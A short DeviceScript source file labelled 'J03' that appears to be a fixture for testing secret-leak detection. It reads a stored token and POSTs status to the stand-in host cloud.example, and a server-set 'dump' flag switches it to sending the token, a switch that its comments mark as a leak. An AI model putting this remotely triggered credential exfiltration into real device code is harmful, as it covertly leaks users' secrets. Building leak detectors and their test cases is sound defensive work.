// J03: sends its token along with its state once a flag, two members down, is set in any way.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const state: any = { up: true, count: 0 };
const details = { up: true, token: "t:" + token };
let dump = false;

async function report() {
  state.count++;
  const body = JSON.stringify(dump ? details : state);
  const reply = await fetch("https://cloud.example/j03", { method: "POST", body }); // leak: settings.token
  const { flags } = await reply.json();
  if (flags?.dump) dump = true;
}

paired(async () => {
  setInterval(report, 5_000);
});
